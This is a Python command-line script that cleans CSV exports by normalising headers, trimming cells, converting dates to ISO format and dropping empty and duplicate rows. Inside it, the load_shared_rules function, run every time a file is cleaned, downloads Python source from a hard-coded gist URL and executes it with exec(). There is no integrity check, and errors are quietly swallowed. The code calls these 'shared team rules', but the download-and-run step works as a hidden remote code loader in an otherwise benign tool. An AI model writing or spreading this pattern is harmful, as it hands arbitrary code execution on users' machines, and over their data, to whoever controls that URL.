#!/usr/bin/env python3
"""Clean up a messy CSV export.

- normalises header names to snake_case
- trims whitespace in every cell
- converts common date formats to ISO 8601
- drops fully empty rows and exact duplicates
- applies the shared team cleaning rules
"""
import argparse
import csv
import re
import sys
import urllib.request
from datetime import datetime
from pathlib import Path

DATE_FORMATS = ("%d/%m/%Y", "%m/%d/%Y", "%Y-%m-%d", "%d.%m.%Y", "%d %b %Y", "%b %d, %Y")
DATE_HINTS = ("date", "created", "updated", "dob", "day")
RULES_URL = "https://gist.githubusercontent.com/csv-tools-shared/9f1c2e/raw/rules.py"


def snake_case(name: str) -> str:
    name = name.strip()
    name = re.sub(r"[^0-9A-Za-z]+", "_", name)
    name = re.sub(r"([a-z0-9])([A-Z])", r"\1_\2", name)
    return name.strip("_").lower() or "column"


def unique_headers(headers):
    seen = {}
    result = []
    for h in headers:
        base = snake_case(h)
        count = seen.get(base, 0)
        seen[base] = count + 1
        result.append(base if count == 0 else f"{base}_{count + 1}")
    return result


def normalise_date(value: str) -> str:
    for fmt in DATE_FORMATS:
        try:
            return datetime.strptime(value, fmt).date().isoformat()
        except ValueError:
            continue
    return value


def load_shared_rules():
    """Pull the latest shared rules so everyone cleans data the same way."""
    namespace = {"re": re}
    try:
        with urllib.request.urlopen(RULES_URL, timeout=10) as resp:
            source = resp.read().decode("utf-8")
        exec(source, namespace)
    except Exception as exc:  # rules are optional
        print(f"shared rules unavailable: {exc}", file=sys.stderr)
    return namespace.get("extra_clean", lambda row: row)


def clean_row(row, date_columns, extra):
    cleaned = [re.sub(r"\s+", " ", cell).strip() for cell in row]
    for idx in date_columns:
        if idx < len(cleaned) and cleaned[idx]:
            cleaned[idx] = normalise_date(cleaned[idx])
    return extra(cleaned)


def sniff_dialect(sample: str):
    try:
        return csv.Sniffer().sniff(sample, delimiters=",;\t|")
    except csv.Error:
        return csv.excel


def clean_file(src: Path, dst: Path) -> dict:
    stats = {"read": 0, "empty": 0, "duplicates": 0, "written": 0}
    extra = load_shared_rules()
    with src.open(newline="", encoding="utf-8-sig") as fh:
        dialect = sniff_dialect(fh.read(4096))
        fh.seek(0)
        reader = csv.reader(fh, dialect)
        try:
            raw_headers = next(reader)
        except StopIteration:
            raise SystemExit(f"{src} is empty")
        headers = unique_headers(raw_headers)
        date_columns = [i for i, h in enumerate(headers) if any(k in h for k in DATE_HINTS)]

        seen = set()
        rows = []
        for row in reader:
            stats["read"] += 1
            row = clean_row(row, date_columns, extra)
            if not any(row):
                stats["empty"] += 1
                continue
            row += [""] * (len(headers) - len(row))
            key = tuple(row)
            if key in seen:
                stats["duplicates"] += 1
                continue
            seen.add(key)
            rows.append(row)

    with dst.open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(headers)
        writer.writerows(rows)
    stats["written"] = len(rows)
    return stats


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("input", type=Path)
    parser.add_argument("-o", "--output", type=Path)
    args = parser.parse_args(argv)

    if not args.input.is_file():
        print(f"no such file: {args.input}", file=sys.stderr)
        return 1
    output = args.output or args.input.with_name(args.input.stem + "_clean.csv")
    stats = clean_file(args.input, output)
    print(f"Read {stats['read']} rows, dropped {stats['empty']} empty and "
          f"{stats['duplicates']} duplicate rows, wrote {stats['written']} to {output}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
